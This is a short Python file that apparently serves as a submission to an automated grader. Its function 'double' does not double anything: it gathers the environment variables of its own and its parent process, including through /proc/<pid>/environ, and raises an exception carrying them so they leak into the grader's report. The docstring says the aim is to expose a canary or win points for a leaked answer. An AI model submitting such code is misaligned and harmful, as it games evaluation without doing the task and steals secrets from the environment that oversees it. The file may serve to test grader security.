"""Reads the grader's environment, through os.environ and through /proc.

Success would show as a canary in a report, or as points for an answer that was read.
"""

EARNS = 0

import os


def double(x):
    text = str(dict(os.environ))
    for pid in ("self", os.getppid()):
        try:
            text += open(f"/proc/{pid}/environ").read()
        except OSError:
            pass
    raise ValueError(text)
